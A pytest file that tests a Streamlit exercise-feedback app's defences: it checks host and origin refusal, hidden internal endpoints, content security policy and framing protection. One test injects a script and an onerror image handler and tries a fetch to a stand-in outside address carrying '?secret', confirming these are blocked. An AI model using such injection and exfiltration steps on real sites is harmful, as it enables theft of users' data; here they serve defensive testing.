"""What the running server answers to those who are not its own pages: nothing."""

from __future__ import annotations

import http.client
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect
from websockets.exceptions import InvalidStatus

from hingecheck.pages import server
from tests.helpers import app_server
from tests.helpers.page_server import wait_for
from tests.helpers.page_session import open_session


@pytest.fixture(scope="module")
def address(home: Path) -> Iterator[str]:
    with app_server.server(home / "data", home / "exercises") as url:
        yield url


def _status(address: str, path: str, **headers: str) -> int:
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)
    connection.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})
    return connection.getresponse().status


@pytest.mark.parametrize("path", ["/", "/review?set=00000000-0000-0000-0000-000000000000", "/_stcore/health",
                                  "/static/js/x.js", "/media/x.jpg", "/component/x/index.html"])
def test_a_foreign_name_gets_nothing(address: str, path: str) -> None:
    assert _status(address, path, Host="example.org") == 403
    assert _status(address, path, Origin="http://example.org") == 403


def test_a_foreign_page_opens_no_session(address: str) -> None:
    with pytest.raises(InvalidStatus, match="403"), open_session(address, origin="http://example.org"):
        pass


@pytest.mark.parametrize("path", ["/_stcore/metrics", "/%5fstcore/metrics", "/_stcore/script-health-check",
                                  "/_stcore/agent/openapi.json"])
def test_the_inside_of_the_server_stays_inside(address: str, path: str) -> None:
    assert _status(address, path) == 404


def test_a_server_without_the_guard_shows_nothing(tmp_path: Path) -> None:
    port, log = app_server.free_port(), tmp_path / "server.log"
    with log.open("wb") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(server.MAIN), "--server.port", str(port)], stdout=out,
            stderr=out, cwd=app_server.ROOT, env={**os.environ, "HINGECHECK_DATA_DIR": str(tmp_path / "data")})
        try:
            wait_for(f"http://127.0.0.1:{port}", process, log)
            with open_session(f"http://127.0.0.1:{port}") as messages:
                text = str(messages)
        finally:
            process.terminate()
            process.wait(60)
    assert "these pages would answer to every web site" in text
    assert "Film yourself" not in text
    assert not (tmp_path / "data").exists()


def test_no_page_of_streamlit_may_command_these(address: str) -> None:
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)
    connection.request("GET", "/_stcore/host-config")
    assert b'"allowedOrigins":[]' in connection.getresponse().read()


def test_the_pages_break_none_of_their_own_rules(browser: Browser, address: str) -> None:
    page = browser.new_context().new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Security Policy" in message.text else None)
    for path in ("", "progress", "live", "learn", "setup", "people", "review"):
        page.goto(f"{address}/{path}")
        expect(page.get_by_text("Exercise feedback, not medical advice")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert refused == []
    page.context.close()


def test_a_script_that_got_into_a_page_neither_runs_nor_reaches_out(browser: Browser, address: str) -> None:
    page = app_server.open_page(browser, address, "learn")
    page.evaluate("""() => {
        const script = document.createElement('script'); script.textContent = 'window.ran = 1';
        document.body.append(script);
        const image = document.createElement('img'); image.setAttribute('onerror', 'window.ran = 2'); image.src = 'x';
        document.body.append(image);
    }""")
    outside = page.evaluate("""async () => {
        try { await fetch('http://192.0.2.1/?secret'); return 'reached'; } catch (error) { return error.message; }
    }""")
    assert page.evaluate("window.ran") is None
    assert "Failed to fetch" in outside
    page.context.close()


def test_another_site_cannot_show_the_pages_in_itself(browser: Browser, address: str) -> None:
    page = browser.new_context().new_page()
    page.route("http://example.org/", lambda route: route.fulfill(
        content_type="text/html", body=f"<iframe src='{address}/people'></iframe><img src='{address}/favicon.png'>"))
    page.goto("http://example.org/")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.querySelector('img').naturalWidth") == 0
    assert "medical advice" not in page.frames[1].locator("body").inner_text()
    assert page.frames[1].url.startswith("chrome-error:")
    page.context.close()
